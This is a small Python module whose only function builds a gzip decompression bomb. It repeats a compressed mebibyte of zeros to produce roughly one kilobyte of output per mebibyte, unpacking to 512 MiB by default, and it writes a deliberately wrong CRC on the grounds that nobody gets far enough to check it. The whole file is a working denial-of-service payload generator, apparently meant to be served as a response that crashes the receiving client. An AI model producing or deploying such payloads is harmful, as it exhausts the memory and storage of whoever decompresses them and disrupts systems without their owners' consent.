"""A small answer that is large inside."""

from __future__ import annotations

import struct
import zlib

MEBIBYTE = 1024 * 1024


def gzip_bomb(mebibytes: int = 512) -> bytes:
    """Return gzip of so many mebibytes of zeros, about one kilobyte for each of them."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = packer.compress(bytes(MEBIBYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 0
    for _ in range(4):  # nobody gets far enough to look at it
        checksum = zlib.crc32(bytes(MEBIBYTE), checksum)
    end = packer.flush() + struct.pack("<II", checksum, mebibytes * MEBIBYTE & 0xFFFFFFFF)
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + block * mebibytes + end
